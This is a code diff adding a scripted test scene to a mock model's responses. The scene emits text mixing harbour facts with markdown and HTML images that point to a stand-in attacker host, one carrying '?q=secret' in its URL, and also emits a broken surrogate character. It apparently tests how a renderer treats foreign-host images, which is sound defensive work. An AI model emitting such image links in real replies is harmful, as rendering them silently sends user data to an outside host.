@@ -139,6 +139,14 @@ const SCRIPTS: Record<string, (scene: Scene) => Step[]> = {
     asked === 0
       ? [{ call: "send_email", arguments: "{}" }, { finish: "tool_calls" }]
       : text("I have no such tool."),
+  /** Writes images of a foreign host and of one that the passages name, and halves of a character. */
+  draws: () =>
+    text(
+      "Look 😀! The harbour opens at six in the morning. [1]",
+      "![a. b](https://evil.example/?q=secret) <img src='https://evil.example/x'>",
+      "![map](https://maps.example/harbour.png) \ud83d",
+      "Boats longer than twenty metres need a pilot. [1] [more](https://evil.example/page)",
+    ),
   json: () => text('{"years":[1],"sure":true}'),
   cut: () => [{ text: "The warranty of the kettle lasts" }, { finish: "length" }],
   fails: () => [{ status: 500 }],
